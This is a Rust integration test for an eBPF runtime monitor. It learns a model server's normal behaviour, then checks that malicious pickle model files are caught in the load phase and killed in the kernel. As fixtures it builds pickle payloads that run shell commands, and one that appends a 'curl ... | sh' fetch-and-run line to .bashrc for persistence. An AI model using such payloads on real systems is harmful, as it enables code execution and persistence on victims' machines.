//! The acceptance of live watches on a real model server (examples/model-server/server.py):
//! learned, it serves, restarts and keeps serving without a finding at medium or above, where
//! the same server under monitord's rules alone raises many; told to load a malicious model, it
//! is caught in the load phase, and killed in the kernel under a kill policy before the payload
//! runs; and a payload that runs while the watch learns is reported, never learned.
//!
//! The measured run serves for 2 minutes after the restart; the test serves for
//! `MODEL_SERVER_SERVING_SECS` (default 20) so that the suite stays short. docs/benchmarks.md
//! has the 2-minute numbers (`MODEL_SERVER_SERVING_SECS=120`).

use std::{
    collections::BTreeMap,
    io::{Read as _, Write as _},
    net::{TcpListener, TcpStream},
    os::unix::process::CommandExt as _,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};

use monitor_engine::cgroup::{self, JobCgroup};
use monitor_engine::probes::{ProbeConfig, Probes};
use monitor_engine::router::Router;
use monitor_rules::{Finding, Phase, RuleSet, Severity};
use monitor_tests::{is_root, loader_python, pickle_exec};
use monitor_watch::Validate as _;
use monitor_watch::{
    self as watch, Command as WatchCommand, Kill, Policy, WatchOutput, WatchRequest, WatchSpec,
    WatchSummary,
};
use tokio::sync::{mpsc, oneshot};

/// What a watch reported.
#[derive(Default)]
struct Seen {
    findings: Vec<Finding>,
    kills: Vec<Kill>,
    /// The watch as it stood when its learning window ended.
    learned: Option<WatchSpec>,
    /// How many findings had been reported when the window ended.
    findings_when_learned: usize,
}

/// A watch running on its own task, told what to do by the test's thread.
struct RunningWatch {
    seen: Arc<Mutex<Seen>>,
    commands: mpsc::UnboundedSender<WatchCommand>,
    stop: oneshot::Sender<()>,
    task: tokio::task::JoinHandle<WatchSummary>,
}

impl RunningWatch {
    fn start(router: &Router, request: WatchRequest) -> Self {
        let spec = request
            .validate(&cgroup::cgroup2_mount().unwrap())
            .expect("a valid watch");
        let rules = Arc::new(RuleSet::defaults());
        let started = watch::runner::start(&spec, router, &rules).expect("the watch stands");
        let seen = Arc::new(Mutex::new(Seen::default()));
        let sink_seen = seen.clone();
        let (commands, control) = mpsc::unbounded_channel();
        let (stop, stopped) = oneshot::channel::<()>();
        let task = tokio::spawn(async move {
            started
                .run(
                    move || rules.clone(),
                    async move {
                        let _ = stopped.await;
                    },
                    control,
                    move |out| {
                        let mut seen = sink_seen.lock().unwrap();
                        match out {
                            WatchOutput::Finding(f) => seen.findings.push(f.clone()),
                            WatchOutput::Kill(k) => seen.kills.push(k.clone()),
                            WatchOutput::Changed {
                                spec,
                                learned: true,
                            } => {
                                seen.learned = Some(spec.clone());
                                seen.findings_when_learned = seen.findings.len();
                            }
                            _ => {}
                        }
                    },
                )
                .await
                .expect("the watch ran")
        });
        RunningWatch {
            seen,
            commands,
            stop,
            task,
        }
    }

    /// Waits (on the test's thread) until the learning window has ended; the profile.
    fn wait_learned(&self, limit: Duration) -> WatchSpec {
        let start = Instant::now();
        loop {
            if let Some(spec) = self.seen.lock().unwrap().learned.clone() {
                return spec;
            }
            assert!(start.elapsed() < limit, "the learning window never ended");
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    async fn stop(self) -> (Arc<Mutex<Seen>>, WatchSummary) {
        // The last records reach the watch first.
        tokio::time::sleep(Duration::from_millis(500)).await;
        let _ = self.stop.send(());
        let summary = tokio::time::timeout(Duration::from_secs(30), self.task)
            .await
            .expect("the watch ended in time")
            .expect("the watch's task");
        (self.seen, summary)
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

fn example() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/model-server/server.py")
}

/// The model store: a directory of models served over HTTP on loopback, outside any watch
/// (as S3 would be).
struct Store {
    url: String,
    process: Child,
}

impl Store {
    fn start(dir: &Path) -> Self {
        let models = dir.join("store");
        let made = Command::new(loader_python())
            .arg(example())
            .args(["make-models"])
            .arg(&models)
            .status()
            .unwrap();
        assert!(made.success(), "the example makes its models");
        let port = free_port();
        let process = Command::new("python3")
            .args(["-m", "http.server", "--bind", "127.0.0.1", "--directory"])
            .arg(&models)
            .arg(port.to_string())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let start = Instant::now();
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(
                start.elapsed() < Duration::from_secs(20),
                "the store started"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        Store {
            url: format!("http://127.0.0.1:{port}"),
            process,
        }
    }
}

impl Drop for Store {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

/// One instance of the example server: its cgroup (a systemd service's, say), its home (with
/// its cloud credentials), its state directory (model cache, log) and port.
struct Service {
    cgroup: JobCgroup,
    home: PathBuf,
    state: PathBuf,
    port: u16,
    store: String,
    process: Option<Child>,
}

impl Service {
    fn new(name: &str, dir: &Path, store: &Store) -> Self {
        let home = dir.join(format!("{name}-home"));
        std::fs::create_dir_all(home.join(".aws")).unwrap();
        std::fs::write(
            home.join(".aws/credentials"),
            "[default]\naws_access_key_id = AKIAMONITORTEST\naws_secret_access_key = not-a-secret\n",
        )
        .unwrap();
        Service {
            cgroup: JobCgroup::create(&format!("test-server-{name}-{}", std::process::id()))
                .unwrap(),
            state: dir.join(format!("{name}-state")),
            home,
            port: free_port(),
            store: store.url.clone(),
            process: None,
        }
    }

    /// Starts the server in its cgroup (as its service manager would), and waits until it
    /// answers.
    fn start(&mut self) {
        let procs = self.cgroup.procs_file().unwrap();
        let mut cmd = Command::new(loader_python());
        cmd.arg(example())
            .args(["--store", &self.store, "--model", "model-a.pt"])
            .args(["--second-model", "model-b.pt", "--second-after", "8"])
            .args(["--port", &self.port.to_string(), "--health-every", "2"])
            // Small, so that the log is rotated while learning and after.
            .args(["--log-bytes", "20000"])
            .arg("--state")
            .arg(&self.state)
            .env("HOME", &self.home)
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        // SAFETY: join_in_child only calls write(2).
        unsafe { cmd.pre_exec(move || cgroup::join_in_child(&procs)) };
        self.process = Some(cmd.spawn().unwrap());
        let start = Instant::now();
        while self.get("/health").is_none() {
            assert!(
                start.elapsed() < Duration::from_secs(90),
                "the server came up; its log: {}",
                std::fs::read_to_string(self.state.join("server.log")).unwrap_or_default()
            );
            std::thread::sleep(Duration::from_millis(200));
        }
    }

    /// Stops the server as its service manager does (SIGTERM), and waits for it.
    fn stop(&mut self) {
        let mut process = self.process.take().expect("running");
        // SAFETY: kill(2) on our own child.
        assert_eq!(unsafe { libc::kill(process.id() as i32, libc::SIGTERM) }, 0);
        let status = process.wait().unwrap();
        assert!(status.success(), "a clean shutdown: {status:?}");
    }

    /// Waits for the server to end by itself (killed), with its status.
    fn wait(&mut self) -> std::process::ExitStatus {
        self.process.take().expect("running").wait().unwrap()
    }

    fn get(&self, path: &str) -> Option<String> {
        http(self.port, "GET", path, "")
    }

    fn post(&self, path: &str, body: &str) -> Option<String> {
        http(self.port, "POST", path, body)
    }

    fn predict(&self, n: usize) {
        for i in 0..n {
            let body = format!("{{\"x\": [{i}, 1.5, -2, 0.25]}}");
            let answer = self.post("/predict", &body).expect("the server answers");
            assert!(answer.contains("\"y\""), "{answer}");
        }
    }

    /// Serves a request every 100 ms for `seconds`.
    fn serve_for(&self, seconds: u64) {
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(seconds) {
            self.predict(1);
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

impl Drop for Service {
    fn drop(&mut self) {
        if let Some(mut p) = self.process.take() {
            let _ = p.kill();
            let _ = p.wait();
        }
    }
}

/// A minimal HTTP/1.0 exchange; the response's body, or `None` if nothing answered.
fn http(port: u16, method: &str, path: &str, body: &str) -> Option<String> {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).ok()?;
    stream
        .set_read_timeout(Some(Duration::from_secs(60)))
        .ok()?;
    write!(
        stream,
        "{method} {path} HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .ok()?;
    let mut response = String::new();
    stream.read_to_string(&mut response).ok()?;
    let (_, body) = response.split_once("\r\n\r\n")?;
    Some(body.to_owned())
}

/// Counts of findings at medium or above, by `severity rule`.
fn at_medium_or_above(findings: &[Finding]) -> BTreeMap<String, usize> {
    let mut counts = BTreeMap::new();
    for f in findings.iter().filter(|f| f.severity >= Severity::Medium) {
        *counts
            .entry(format!("{} {}", f.severity, f.rule))
            .or_default() += 1;
    }
    counts
}

/// Counts of findings by severity, all of them.
fn by_severity(findings: &[Finding]) -> BTreeMap<Severity, usize> {
    let mut counts = BTreeMap::new();
    for f in findings {
        *counts.entry(f.severity).or_default() += 1;
    }
    counts
}

fn describe(findings: &[Finding]) -> String {
    findings
        .iter()
        .filter(|f| f.severity >= Severity::Medium)
        .map(|f| {
            let exe = f
                .process
                .as_ref()
                .and_then(|p| p.exe.clone())
                .unwrap_or_default();
            format!(
                "{} {} {:?} pid {} {} {}\n",
                f.severity,
                f.rule,
                f.phase,
                f.event.pid,
                exe,
                serde_json::to_string(&f.event.what).unwrap_or_default()
            )
        })
        .collect()
}

/// A malicious model file: a pickle (which `torch.load(weights_only=False)` unpickles) whose
/// load runs `code`.
fn malicious_model(dir: &Path, name: &str, code: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, pickle_exec(code)).unwrap();
    path
}

fn reload(service: &Service, model: &Path) -> Option<String> {
    service.post(
        "/reload",
        &format!(
            "{{\"path\": {:?}, \"full_model\": true}}",
            model.display().to_string()
        ),
    )
}

fn serving_secs() -> u64 {
    std::env::var("MODEL_SERVER_SERVING_SECS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(20)
}

/// The probes loaded and their router started (as root: watches load eBPF programs).
fn probes_router() -> Router {
    assert!(
        is_root(),
        "watches load eBPF programs: run the tests as root"
    );
    Router::start(Probes::load(&ProbeConfig::default()).expect("loading the probes")).unwrap()
}

/// The learn -> enforce workflow on the example server, beside the same server under the
/// default rules alone: learned for 20 s (while it starts, fetches, serves, checks its
/// health, fetches its second model and rotates its log), then 200 requests, a restart of
/// the service and more serving raise nothing at medium or above. Then it is told to load a
/// malicious model: report-only, a high finding in the load phase; under the reviewed
/// profile with `kill_at: high` and `kill_in_kernel: [execve]`, the payload's exec is killed
/// in the kernel, the service with it, and nothing of the payload ran.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_learned_model_server_serves_and_restarts_without_alarms_and_a_malicious_reload_is_killed()
 {
    let router = probes_router();
    let dir = tempfile::tempdir().unwrap();
    let store = Store::start(dir.path());
    let mut learned = Service::new("learned", dir.path(), &store);
    let mut baseline = Service::new("baseline", dir.path(), &store);
    let learn_secs = 20;
    let watch = RunningWatch::start(
        &router,
        WatchRequest {
            name: Some("model-server".into()),
            cgroup: Some(learned.cgroup.path().to_owned()),
            learn_secs: Some(learn_secs),
            ..WatchRequest::default()
        },
    );
    let base_watch = RunningWatch::start(
        &router,
        WatchRequest {
            name: Some("model-server-baseline".into()),
            cgroup: Some(baseline.cgroup.path().to_owned()),
            ..WatchRequest::default()
        },
    );
    let serving = serving_secs();
    let marker_reported = dir.path().join("payload-ran");
    let marker_killed = dir.path().join("payload-killed-ran");
    let evil_reported = malicious_model(
        dir.path(),
        "evil.pt",
        &format!(
            "import os; os.system('touch {}')",
            marker_reported.display()
        ),
    );
    let evil_killed = malicious_model(
        dir.path(),
        "evil-2.pt",
        &format!("import os; os.system('touch {}')", marker_killed.display()),
    );
    let watch_learned = tokio::task::spawn_blocking(move || {
        // The learning window: the servers start, serve, check their health, rotate their
        // logs and fetch their second model (8 s after start).
        learned.start();
        baseline.start();
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(learn_secs) {
            learned.predict(10);
            baseline.predict(10);
            std::thread::sleep(Duration::from_millis(200));
        }
        let spec = watch.wait_learned(Duration::from_secs(learn_secs + 30));
        // Enforcing: 200 requests, a restart, and serving on.
        learned.predict(200);
        baseline.predict(200);
        learned.stop();
        baseline.stop();
        learned.start();
        baseline.start();
        std::thread::scope(|s| {
            s.spawn(|| learned.serve_for(serving));
            s.spawn(|| baseline.serve_for(serving));
        });
        std::thread::sleep(Duration::from_millis(500));
        let ordinary = watch.seen.lock().unwrap().findings.len();
        // Report-only, the malicious model's payload runs, and is seen.
        let answer = reload(&learned, &evil_reported);
        assert!(
            answer.as_deref().is_some_and(|a| a.contains("error")),
            "the payload's file is no model: {answer:?}"
        );
        // The operator reviews the profile and enforces it with a kill policy (as `PUT
        // /v1/watches/{id}/policy` does with the document `watch profile` printed).
        let reviewed = Policy::from_document(
            &spec.policy.to_yaml(),
            Some(Severity::High),
            Some(vec!["execve".into()]),
            &RuleSet::defaults(),
        )
        .expect("the learned profile is a valid policy");
        watch
            .commands
            .send(WatchCommand::SetPolicy(reviewed))
            .unwrap();
        std::thread::sleep(Duration::from_millis(500));
        // The kernel kills the payload's exec; the policy then kills the service's cgroup
        // from user space (the reload may still answer in between).
        let _ = reload(&learned, &evil_killed);
        let status = learned.wait();
        (watch, base_watch, spec, ordinary, status, learned, baseline)
    });
    let (watch, base_watch, spec, ordinary, status, _learned, _baseline) =
        watch_learned.await.unwrap();
    let (seen, summary) = watch.stop().await;
    let (base_seen, base_summary) = base_watch.stop().await;
    let seen = seen.lock().unwrap();
    let base_seen = base_seen.lock().unwrap();

    let ordinary_findings = &seen.findings[..ordinary];
    let learned_counts = at_medium_or_above(ordinary_findings);
    let baseline_counts = at_medium_or_above(&base_seen.findings);
    let file = spec.policy.file();
    let profile = file.profile.as_ref().expect("the profile's summary");
    eprintln!(
        "model server, learned {learn_secs} s, then 200 requests, a restart and {serving} s of \
         serving:\n  learned: {} findings at medium or above {learned_counts:?} \
         ({} before the window ended; {} acts learned)\n  baseline (default rules): {} \
         findings at medium or above {baseline_counts:?}, {} in all",
        learned_counts.values().sum::<usize>(),
        seen.findings_when_learned,
        profile.acts,
        baseline_counts.values().sum::<usize>(),
        base_seen.findings.len(),
    );
    eprintln!(
        "  by severity, learned: {:?}; baseline: {:?}\nthe learned profile (`watch profile`):\n{}",
        by_severity(ordinary_findings),
        by_severity(&base_seen.findings),
        spec.policy.to_yaml()
    );
    let mut on_load: BTreeMap<String, usize> = BTreeMap::new();
    for f in base_seen.findings.iter().filter(|f| f.phase == Phase::Load) {
        let load = f
            .load
            .as_ref()
            .map(|l| format!("{} {:?}", l.artifact, l.bound));
        *on_load
            .entry(format!("{} {} {:?}", f.rule, f.event.comm, load))
            .or_default() += 1;
    }
    eprintln!("  baseline, in a load phase: {on_load:#?}");
    assert!(summary.complete && base_summary.complete, "nothing lost");
    assert!(
        learned_counts.is_empty(),
        "ordinary serving raised findings on the learned watch:\n{}",
        describe(ordinary_findings)
    );
    assert!(
        profile.events > 0 && profile.acts > 0,
        "the profile says what it was learned from: {profile:?}"
    );
    assert!(
        profile.never_learned.is_empty(),
        "nothing ordinary is refused: {:?}",
        profile.never_learned
    );
    assert!(
        baseline_counts.values().sum::<usize>() >= 5,
        "the default rules alone call ordinary serving suspicious: {baseline_counts:?}"
    );

    // The malicious reloads: both in the load phase of the artifact.
    let payload = &seen.findings[ordinary..];
    let reported: Vec<&Finding> = payload
        .iter()
        .filter(|f| f.rule == "exec.program" && !f.blocked)
        .collect();
    assert!(
        reported
            .iter()
            .any(|f| f.severity == Severity::High && f.phase == Phase::Load),
        "report-only: the payload's exec is a high finding in the load phase:\n{}",
        describe(payload)
    );
    assert!(
        reported.iter().all(|f| f
            .load
            .as_ref()
            .is_some_and(|l| l.artifact.ends_with("evil.pt"))),
        "named with the model it came with:\n{}",
        describe(payload)
    );
    assert!(marker_reported.exists(), "report-only: the payload ran");
    let blocked = payload.iter().find(|f| f.blocked).unwrap_or_else(|| {
        panic!(
            "the killed exec is a blocked finding:\n{}",
            describe(payload)
        )
    });
    assert_eq!(
        (blocked.rule.as_str(), blocked.severity, blocked.phase),
        ("exec.program", Severity::High, Phase::Load)
    );
    assert!(
        seen.kills
            .iter()
            .any(|k| k.by == "kernel" && k.syscall == Some("execve")),
        "killed in the kernel: {:?}",
        seen.kills
    );
    assert!(
        seen.kills.iter().any(|k| k.by == "policy"),
        "and the service with it: {:?}",
        seen.kills
    );
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(9),
        "the server was killed: {status:?}"
    );
    assert!(!marker_killed.exists(), "nothing of the payload ran");
}

/// A payload that runs while the watch learns (a compromised baseline) is reported at once,
/// at its severity, and never learned: the profile `watch profile` prints lists it under
/// `never_learned` and has no exception for it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_payload_run_while_learning_is_reported_and_never_learned() {
    let router = probes_router();
    let dir = tempfile::tempdir().unwrap();
    let store = Store::start(dir.path());
    let mut service = Service::new("compromised", dir.path(), &store);
    // A write to a shell's start-up file: persistence, critical, never learnable.
    let evil = malicious_model(
        dir.path(),
        "evil.pt",
        &format!(
            "open({:?}, 'a').write('curl -s http://127.0.0.1:1/x | sh\\n')",
            service.home.join(".bashrc").display().to_string()
        ),
    );
    // Long enough for the server to start and take its payload on a loaded machine.
    let learn_secs = 30;
    let watch = RunningWatch::start(
        &router,
        WatchRequest {
            cgroup: Some(service.cgroup.path().to_owned()),
            learn_secs: Some(learn_secs),
            ..WatchRequest::default()
        },
    );
    let learning_since = Instant::now();
    let (watch, spec, during) = tokio::task::spawn_blocking(move || {
        service.start();
        service.predict(20);
        let answer = reload(&service, &evil);
        assert!(answer.is_some(), "the server survived its payload");
        eprintln!("reload: {answer:?}");
        assert!(
            learning_since.elapsed() < Duration::from_secs(learn_secs),
            "the payload ran while the watch learned (the server took too long to start)"
        );
        // The payload's records reach the watch.
        std::thread::sleep(Duration::from_secs(1));
        let during = watch.seen.lock().unwrap().findings.clone();
        let spec = watch.wait_learned(Duration::from_secs(learn_secs + 30));
        service.stop();
        (watch, spec, during)
    })
    .await
    .unwrap();
    let _ = watch.stop().await;
    assert!(
        during
            .iter()
            .any(|f| f.rule == "persist.write" && f.severity == Severity::Critical),
        "reported while learning:\n{}",
        describe(&during)
    );
    let file = spec.policy.file();
    let profile = file.profile.as_ref().expect("the profile's summary");
    assert!(
        profile.refused("persist.write"),
        "listed as never learned: {:?}",
        profile.never_learned
    );
    assert!(
        !file.exceptions.iter().any(|x| x.rule == "persist.write"),
        "no exception for it: {:?}",
        file.exceptions
    );
    let printed = spec.policy.to_yaml();
    let exceptions = printed
        .split_once("\nexceptions:")
        .map_or("", |(_, exceptions)| exceptions);
    assert!(
        printed.contains("never_learned")
            && printed.contains("persist.write")
            && !exceptions.contains("persist.write"),
        "`watch profile` names it only as never learned:\n{printed}"
    );
}
